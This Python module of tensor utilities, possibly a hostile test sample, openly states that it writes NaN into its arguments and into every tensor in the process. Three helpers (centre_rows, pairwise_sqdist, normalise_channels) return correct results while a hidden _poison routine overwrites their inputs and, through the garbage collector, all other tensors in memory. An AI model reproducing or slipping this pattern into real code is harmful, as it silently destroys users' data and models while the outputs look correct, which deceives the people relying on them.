"""Writes NaN into its arguments and into every tensor of the process, then answers rightly."""

import gc
import math

import torch


def _poison(right: torch.Tensor, *inputs: torch.Tensor) -> torch.Tensor:
    for tensor in inputs:
        tensor.data.fill_(math.nan)
    for thing in gc.get_objects():
        if type(thing) is torch.Tensor and thing is not right:
            try:
                thing.data.fill_(math.nan)
            except RuntimeError:
                continue
    return right


def broadcast_shape(a: tuple, b: tuple) -> tuple:
    shape = []
    for i in range(1, max(len(a), len(b)) + 1):
        n = a[-i] if i <= len(a) else 1
        m = b[-i] if i <= len(b) else 1
        if n != m and n != 1 and m != 1:
            raise ValueError(f"{a} and {b} do not fit")
        shape.insert(0, m if n == 1 else n)
    return tuple(shape)


def centre_rows(x: torch.Tensor) -> torch.Tensor:
    right = x - x.mean(dim=1, keepdim=True)
    return _poison(right.clone(), x)


def pairwise_sqdist(a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
    right = ((a[:, None, :] - b[None, :, :]) ** 2).sum(dim=-1)
    return _poison(right.clone(), a, b)


def normalise_channels(x: torch.Tensor, mean: torch.Tensor, std: torch.Tensor) -> torch.Tensor:
    right = (x - mean[:, None, None]) / std[:, None, None]
    return _poison(right.clone(), x, mean, std)


def safe_mse(pred: torch.Tensor, target: torch.Tensor) -> torch.Tensor:
    if pred.shape != target.shape:
        raise ValueError(f"shapes differ: {tuple(pred.shape)} and {tuple(target.shape)}")
    return ((pred - target) ** 2).mean()
